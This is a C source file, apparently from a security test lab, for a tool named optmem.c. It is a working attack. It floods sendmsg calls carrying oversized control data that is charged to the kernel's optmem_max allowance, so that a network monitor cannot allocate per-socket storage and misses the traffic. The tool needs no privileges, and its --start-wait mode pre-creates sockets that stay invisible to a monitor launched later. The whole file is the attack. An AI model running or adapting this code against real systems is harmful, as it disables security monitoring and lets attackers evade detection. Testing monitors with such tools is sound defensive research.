/* SPDX-License-Identifier: BSD-2-Clause */
/*
 * optmem.c: sends while its socket has no memory left for anybody else. The kernel charges control
 * data to the same allowance (net.core.optmem_max) that a monitor's per-socket storage is charged
 * to, for as long as the send takes: with as much of it as is accepted, storage is refused. Each
 * datagram goes out from a socket of its own. No right is needed. With --start-wait they are made
 * before a line is waited for: a monitor that begins after that finds none with storage.
 */
#include <errno.h>
#include <getopt.h>
#include <stdlib.h>
#include <string.h>
#include <sys/uio.h>
#include <unistd.h>

#include "lib/lab.h"

#define CONTROL_MAX  (4U << 20)
#define CONTROL_STEP 64
#define NO_LEVEL     0x7fff /* no protocol's: the kernel skips it */
#define SOCKETS_MAX  1024

struct attack {
	struct lab_addr to;
	int made[SOCKETS_MAX]; /* before the wait */
	size_t made_n;
	char *control;
	size_t control_len;
	char data[1400];
};

static ssize_t send_one(const struct attack *a, int fd, size_t n)
{
	struct iovec iov = { .iov_base = (void *)(uintptr_t)a->data, .iov_len = n };
	struct msghdr m = { .msg_iov = &iov,
			    .msg_iovlen = 1,
			    .msg_control = a->control,
			    .msg_controllen = a->control_len };
	struct cmsghdr *c = (struct cmsghdr *)(void *)a->control;

	c->cmsg_len = a->control_len;
	c->cmsg_level = NO_LEVEL;
	c->cmsg_type = 1;
	return sendmsg(fd, &m, 0);
}

static int socket_new(struct attack *a)
{
	int fd;

	if (a->made_n > 0)
		return a->made[--a->made_n];
	fd = socket(a->to.ss.ss_family, SOCK_DGRAM | SOCK_CLOEXEC, 0);

	if (fd < 0 || connect(fd, (const struct sockaddr *)&a->to.ss, a->to.len) < 0)
		lab_die("socket");
	return fd;
}

static size_t optmem_max(void)
{
	FILE *f = fopen("/proc/sys/net/core/optmem_max", "re");
	unsigned int n = 20480; /* another network namespace may not show it */

	if (f != NULL) {
		if (fscanf(f, "%u", &n) != 1)
			n = 20480;
		fclose(f);
	}
	return n < CONTROL_MAX ? n : CONTROL_MAX;
}

/* As much as the kernel takes; what was sent in finding out counts too. */
static uint64_t control_fit(struct attack *a, uint64_t left)
{
	ssize_t n;
	int fd;

	for (; a->control_len > sizeof(struct cmsghdr); a->control_len -= CONTROL_STEP) {
		fd = socket_new(a);
		n = send_one(a, fd, left < sizeof(a->data) ? (size_t)left : sizeof(a->data));
		close(fd);
		if (n >= 0)
			return (uint64_t)n;
		if (errno != ENOBUFS)
			lab_die("sendmsg with %zu bytes of control data", a->control_len);
	}
	lab_die("control data");
}

static void sockets_make(struct attack *a)
{
	int fd, n;

	for (n = 0; n < SOCKETS_MAX; n++) {
		fd = socket_new(a);
		a->made[n] = fd;
	}
	a->made_n = SOCKETS_MAX;
	printf("{\"pid\":%d,\"waiting\":true}\n", getpid());
	lab_flush();
	lab_wait_line();
}

int main(int argc, char **argv)
{
	static const struct option longs[] = {
		{ "to", required_argument, NULL, 't' },
		{ "bytes", required_argument, NULL, 'b' },
		{ "start-wait", no_argument, NULL, 'w' },
		{ NULL, 0, NULL, 0 },
	};
	static struct attack a;
	struct lab_ports ports;
	uint64_t bytes = 0, sent;
	bool wait = false;
	ssize_t n;
	int c, fd;

	while ((c = getopt_long(argc, argv, "", longs, NULL)) != -1) {
		if (c == 't')
			lab_addr_parse(optarg, false, &a.to, &ports);
		else if (c == 'b')
			bytes = lab_num("--bytes", optarg, 1, UINT32_MAX);
		else if (c == 'w')
			wait = true;
		else
			lab_usage("--to ADDRESS:PORT --bytes N [--start-wait]");
	}
	if (a.to.len == 0 || bytes == 0 || optind < argc)
		lab_usage("--to ADDRESS:PORT --bytes N");
	a.control_len = optmem_max();
	a.control = calloc(1, a.control_len);
	if (a.control == NULL)
		lab_die("memory");
	if (wait)
		sockets_make(&a);
	for (sent = control_fit(&a, bytes); sent < bytes; sent += (uint64_t)n) {
		fd = socket_new(&a);
		n = send_one(&a, fd,
			     bytes - sent < sizeof(a.data) ? (size_t)(bytes - sent)
							   : sizeof(a.data));
		if (n < 0)
			lab_die("sendmsg");
		close(fd);
	}
	printf("{\"sent\":%llu,\"control\":%zu,\"pid\":%d}\n", (unsigned long long)sent,
	       a.control_len, getpid());
	free(a.control);
	return 0;
}
